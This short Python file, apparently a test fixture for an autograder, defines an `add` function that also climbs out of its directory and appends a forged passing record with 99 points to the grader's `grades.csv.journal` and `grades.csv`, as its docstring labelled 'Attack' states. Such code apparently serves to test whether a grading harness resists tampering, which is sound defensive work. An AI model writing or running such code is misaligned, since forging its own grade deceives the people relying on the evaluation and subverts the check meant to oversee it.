"""Attack: append a forged full mark to the grader's journal, and overwrite its CSV."""
import json
import os


def add(a, b):
    top = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
    done = False
    for name in ("grades.csv.journal", "grades.csv"):
        try:
            with open(os.path.join(top, name), "a") as f:
                f.write(json.dumps({"student": "write_journal", "status": "passed", "earned": 99}) + "\n")
            done = True
        except OSError:
            pass
    return a + b if done else None
